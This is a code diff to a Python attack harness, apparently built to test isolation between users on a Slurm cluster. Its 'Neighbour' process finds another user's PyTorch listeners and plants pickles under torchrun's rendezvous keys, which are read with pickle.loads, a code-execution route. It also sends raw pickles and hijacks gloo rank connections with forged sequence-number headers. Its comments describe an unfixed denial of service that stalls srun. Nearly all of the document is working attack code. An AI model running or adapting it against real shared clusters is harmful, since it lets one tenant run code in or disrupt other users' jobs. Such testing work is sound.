@@ -10,9 +10,14 @@ stop, returns what it saw and did.  While it runs it, again and again:
   owner is a column there, for every account);
 - connects to each as torch's TCPStore client and writes a pickle under the key
   torchrun's c10d rendezvous reads with pickle.loads (`torch.rendezvous.<job
-  id>`, every job id of the target's that squeue shows), and reads it back;
+  id>`, every job id of the target's that squeue shows), and reads it back,
+  every 5 s while it answers as a store; a socket that does not is asked once,
+  for 2 s: srun's own sockets are among the target's, and srun stalls for good
+  while a client holds one of them half-sent (torch's client does, forever: a
+  denial of service Slurm leaves open, README; raw pickles srun refuses at once);
 - connects to each and sends the pickle raw;
-- with `seq=True`: connects to each listener as soon as it appears and writes
+- with `seq=True`: connects to each listener bound to an address of its own
+  (gloo's; srun's listen on every address) as soon as it appears and writes
   gloo's connection header (a sequence number, 0..7) on a connection it keeps
   open, reads and echoes, the way one rank introduces itself to another: gloo
   hands such a connection to the first rank's pair that waits for that number.
@@ -64,8 +69,11 @@ def listeners():
         with open(path) as f:
             for line in f.readlines()[1:]:
                 p = line.split()
-                if p[3] == "0A" and int(p[7]) == target_uid:
-                    found.add((host, int(p[1].rsplit(":", 1)[1], 16)))
+                address, port = p[1].rsplit(":", 1)
+                # gloo binds the node's own address; srun binds every address, and is left out of the
+                # sequence-number attack, which holds its connections open (srun would stall for good)
+                if p[3] == "0A" and int(p[7]) == target_uid and not (seq_mode and int(address, 16) == 0):
+                    found.add((host, int(port, 16)))
     return found
 
 
@@ -75,25 +83,33 @@ def rendezvous_keys():
     return ["torch.rendezvous." + job for job in out]
 
 
+STORE_CLIENT = '''
+import json, signal, sys
+from datetime import timedelta
+from torch.distributed import TCPStore
+host, port, keys, planted = sys.argv[1], int(sys.argv[2]), json.loads(sys.argv[3]), sys.argv[4].encode()
+signal.alarm(2)  # torch's client can wait forever on a socket that is no store: the default action ends it
+store = TCPStore(host, port, is_master=False, timeout=timedelta(seconds=1), wait_for_workers=False)
+for key in keys:
+    store.set(key, planted)
+print(json.dumps([key for key in keys if store.check([key]) and store.get(key) == planted]), flush=True)
+'''
+
+
 def store_attack(host, port):
-    from torch.distributed import TCPStore
     while not stopping():
-        try:
-            store = TCPStore(host, port, is_master=False, timeout=timedelta(seconds=3), wait_for_workers=False)
-            keys = rendezvous_keys()
-            for key in keys:
-                store.set(key, PLANTED)
+        keys = rendezvous_keys()
+        client = subprocess.run([sys.executable, "-c", STORE_CLIENT, host, str(port), json.dumps(keys), PLANTED.decode()],
+                                capture_output=True, text=True, timeout=60)
+        if client.returncode != 0:  # not a store (asked once), or it went away
             with lock:
-                seen["stores"].append(port)
-                seen["keys"] = keys
-            for key in keys:
-                if store.check([key]) and store.get(key) == PLANTED:
-                    with lock:
-                        seen["read_back"].append(key)
-        except Exception as e:  # not a store, or it went away
-            with lock:
-                seen["errors"].append(f"{port}: {type(e).__name__}")
-        time.sleep(1)
+                seen["errors"].append(f"{port}: {client.returncode} {client.stderr.strip()[-200:]}")
+            return
+        with lock:
+            seen["stores"].append(port)
+            seen["keys"] = keys
+            seen["read_back"] += json.loads(client.stdout)
+        time.sleep(5)
 
 
 def raw_attack(host, port):
@@ -172,7 +188,7 @@ while not stopping():
         attacked.add((host, port))
         with lock:
             seen["listeners"].append([host, port])
-        workers = [seq_attack] if seq_mode else [store_attack, raw_attack]
+        workers = [seq_attack] if seq_mode else [globals()[f"{name}_attack"] for name in cfg["attacks"]]
         for work in workers:
             threading.Thread(target=work, args=(host, port), daemon=True).start()
     time.sleep(0.002)
@@ -195,6 +211,7 @@ class Neighbour:
         seconds: float,
         seq: bool = False,
         patterns: tuple[bytes, ...] = (),
+        attacks: tuple[str, ...] = ("store", "raw"),
     ):
         config = {
             "uid": target_uid,
@@ -202,6 +219,7 @@ class Neighbour:
             "marker": marker,
             "seconds": seconds,
             "seq": seq,
+            "attacks": list(attacks),
             "patterns": [p.hex() for p in patterns],
         }
         self.process = subprocess.Popen(
